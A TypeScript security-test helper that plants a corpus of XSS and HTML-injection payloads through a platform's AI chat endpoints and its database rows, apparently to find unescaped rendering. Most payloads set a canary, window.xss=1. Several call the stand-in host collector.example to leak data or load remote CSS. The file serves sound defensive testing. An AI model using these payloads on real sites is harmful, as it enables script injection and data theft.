import { randomBytes, randomUUID } from 'node:crypto'
import type { ServiceName } from '@operon/contracts/services'
import { obey } from './model.ts'
import { pay, subscribed } from './people.ts'
import type { Actor, Kept, World } from './world.ts'

export const EVIL = 'collector.example'
/** In front of every hostile text, to see where it is shown. */
export const MARK = 'Hostile words'
export const corpus = [
  '<img src=x onerror="window.xss=1">',
  '<script>window.xss=1</script>',
  '<svg/onload=window.xss=1>',
  '[click](javascript:window.xss=1)',
  `![x](https://${EVIL}/leak?d=1)`,
  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
  '<a href="javascript:window.xss=1" onclick="window.xss=1">x</a>',
  '"><details open ontoggle=window.xss=1>',
  '[x](data:text/html,<script>window.xss=1</script>)',
  `<style>@import "https://${EVIL}/x.css"</style>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1>',
  '[a](java\tscript:window.xss=1) [b](&#106;avascript:window.xss=1) [c](vbscript:x) [d](//collector.example)',
  '"autofocus onfocus=window.xss=1 x="',
  "'-window.xss=1-'",
  '</title></textarea></script><script>window.xss=1</script>',
  `{{constructor.constructor("window.xss=1")()}} \${window.xss=1}`,
  `<link rel=stylesheet href=//${EVIL}/a.css><base href=//${EVIL}/><meta http-equiv=refresh content="0;url=//${EVIL}/">`,
  `<form action=https://${EVIL}><button formaction=javascript:window.xss=1>go</button></form>`,
  '<object data=javascript:window.xss=1><embed src=javascript:window.xss=1>',
  '\u202e<img src=x onerror=window.xss=1>\u0000',
]

/** Hostile text in everything that a seller can write, and in everything that a model answers them. */
export async function hostileSeller(world: World, text: string): Promise<Kept> {
  const email = `hostile-${Math.floor(world.random() * 1e9)}@example.com`
  const name = text.replaceAll('\0', '').slice(0, 100)
  const kept = await world.signUp(email, { data: { name, full_name: name } })
  const actor: Actor = { kind: 'seller', id: kept.user.id, email, token: kept.access_token }
  await world.call(actor, 'POST', '/rest/v1/user_roles', { user_id: actor.id, role: 'seller' })
  const fn = (path: string, body: unknown) => world.call(actor, 'POST', `/functions/v1/${path}`, body)
  const { body: checkout } = await fn('create-checkout', { plan: 'pro' })
  if (checkout?.url) await pay(world, checkout.url, email)
  await subscribed(world, actor)
  const said = text.replaceAll('\0', '')
  const answered = obey({ content: said })
  const proposed = obey({
    content: said,
    tools: [
      { name: 'search-web', arguments: JSON.stringify({ query: said.slice(0, 1900) }) },
      { name: 'suggest-names', arguments: JSON.stringify({ description: said.slice(0, 1900) }) },
    ],
  })
  const written = [
    await fn('ai-chat', { message: `${said} ${answered}`, conversation_id: 'new' }),
    await fn('ai-chat', { message: `${said} ${answered}`, conversation_id: 'new', feature: 'assistant' }),
    await fn('ai-orchestrator', { message: `${said} ${proposed}`, conversation_id: 'new', task_type: 'action' }),
    await fn('ai-compare', { prompt: `${said} ${answered}`, models: ['gpt-4o-mini'] }),
    await fn('ai-key-create', { name: said.slice(0, 80) }),
    await world.call(actor, 'POST', '/rest/v1/ai_prompts', { title: said.slice(0, 80), body: said }),
  ]
  const failed = written.find(({ status }) => status >= 400 && status !== 403)
  if (failed) throw new Error(`hostile text could not be planted: ${failed.status} ${failed.text.slice(0, 200)}`)
  await plantRows(world, kept.user.id, said)
  return kept
}

/** Rows that screens already read and no call writes yet. */
async function plantRows(world: World, user_id: string, text: string) {
  const { platform } = world
  const item = hostileItem(user_id)
  const put = (service: ServiceName, table: string, row: object) =>
    platform
      .db(service)
      .insertInto(table)
      .values({ id: randomUUID(), user_id, ...row })
      .execute()
  await put('crm', 'leads', { name: text, email: text, status: text, source: text })
  await put('crm', 'appointments', { title: text, status: text, starts_at: new Date() })
  await put('crm', 'email_campaigns', { name: text, status: text })
  await put('marketplace', 'items', {
    id: item,
    title: text,
    summary: text,
    licence_terms: text,
    description: text,
    category: text,
    item_type: text,
    price_cents: 100,
    is_active: true,
  })
  await plantOrder(world, user_id, item, text)
  await put('analytics', 'activity_logs', { event_id: randomUUID(), command: text, status: text, created_at: new Date() })
  const notice = { kind: 'usage', about: randomUUID(), title: text, body: text, link: `javascript:window.xss=1//${text}` }
  await put('analytics', 'notifications', { ...notice, created_at: new Date() })
  const storefront = { display_name: text, marketplace_slug: slugOf(user_id) }
  await platform
    .db('marketplace')
    .insertInto('profiles')
    .values({ user_id, version: 1, ...storefront })
    .onConflict((conflict) => conflict.column('user_id').doUpdateSet(storefront))
    .execute()
}

/** An order with everything that its two sides write about it; the hostile seller is its buyer as well, so that both dashboards show it. */
async function plantOrder({ platform }: World, user_id: string, item_id: string, text: string) {
  const db = platform.db('marketplace')
  const [id, thread_id, message_id] = [hostileOrder(user_id), randomUUID(), randomUUID()]
  const into = (table: string, row: object) => db.insertInto(table).values(row).execute()
  const order = { id, item_id, seller_id: user_id, buyer_id: user_id, email: text, title: text, amount_cents: 100, currency: 'usd' }
  await into('orders', { ...order, token_hash: randomBytes(32), state: 'delivered', delivered_at: new Date() })
  const thread = { seller_id: user_id, buyer_id: user_id, email: text, order_id: id, item_id, subject: text, preview: text }
  await into('threads', { id: thread_id, ...thread, seller_unread: 1, buyer_unread: 1 })
  await into('thread_messages', { id: message_id, thread_id, side: 'buyer', text, files_left: 1 })
  const file = {
    id: randomUUID(),
    user_id,
    key: `files/${user_id}/x`,
    name: text,
    bytes: 1,
    said_type: text,
    type: 'text/plain',
    state: 'ready',
  }
  await into('files', file)
  await into('message_files', { message_id, file_id: file.id, name: text, bytes: 1, type: text, position: 0 })
  const review = {
    id: randomUUID(),
    order_id: id,
    item_id,
    seller_id: user_id,
    buyer_id: user_id,
    title: text,
    name: text,
    rating: 1,
    text,
  }
  await into('reviews', { ...review, answer: text, answered_at: new Date() })
  await db.updateTable('items').set({ rating_sum: 1, rating_count: 1 }).where('id', '=', item_id).execute()
  const request = { id: randomUUID(), order_id: id, seller_id: user_id, buyer_id: user_id, reason: 'other', text, answer: text }
  await into('refund_requests', { ...request, due_at: new Date(Date.now() + 86_400_000) })
  await into('reports', { id: randomUUID(), item_id, seller_id: user_id, reason: 'other', text })
  await into('saved_searches', { id: randomUUID(), user_id, q: text.slice(0, 100), category: '' })
  await into('wishlist', { user_id, item_id })
}

/** The order of a hostile seller. */
export const hostileOrder = (userId: string) => userId.replace(/^.{8}/, '0badface')
export const slugOf = (userId: string) => `hostile-${userId.slice(-12)}`
/** The product of a hostile seller. */
export const hostileItem = (userId: string) => userId.replace(/^.{8}/, '0badc0de')
